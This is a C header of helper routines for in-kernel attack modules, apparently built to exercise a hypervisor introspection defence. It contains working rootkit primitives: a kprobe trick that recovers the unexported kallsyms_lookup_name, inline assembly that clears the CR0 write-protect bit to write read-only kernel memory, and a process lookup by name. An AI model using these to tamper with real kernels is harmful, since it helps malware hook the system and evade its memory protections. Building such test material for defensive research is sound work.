/* SPDX-License-Identifier: GPL-2.0 */
/*
 * What attacks on a kernel from inside have in common: symbols that it does not
 * export, and stores to memory that it keeps read-only.
 */
#ifndef HVI_ATTACK_KERNEL_H
#define HVI_ATTACK_KERNEL_H

#include <linux/kallsyms.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <asm/processor-flags.h>

/*
 * lookup returns the address of any symbol of the kernel's, 0 if there is none.
 * kallsyms_lookup_name is not exported from 5.7 on; a kprobe finds it.
 */
static unsigned long lookup(const char *name)
{
	static unsigned long (*find)(const char *);
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };

	if (!find) {
		if (register_kprobe(&probe) < 0)
			return 0;
		find = (void *)probe.addr;
		unregister_kprobe(&probe);
	}
	return find(name);
}

/*
 * wp_off and wp_on enclose stores to read-only memory. The kernel's own
 * write_cr0 would put the bit back.
 */
static inline unsigned long wp_off(unsigned long *flags)
{
	unsigned long cr0;

	local_irq_save(*flags);
	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	return cr0;
}

static inline void wp_on(unsigned long cr0, unsigned long flags)
{
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

/* find_process returns the first process of a name, without a reference. */
static struct task_struct *find_process(const char *comm)
{
	struct task_struct *p, *found = NULL;

	rcu_read_lock();
	for_each_process(p) {
		if (!strcmp(p->comm, comm)) {
			found = p;
			break;
		}
	}
	rcu_read_unlock();
	return found;
}

#endif
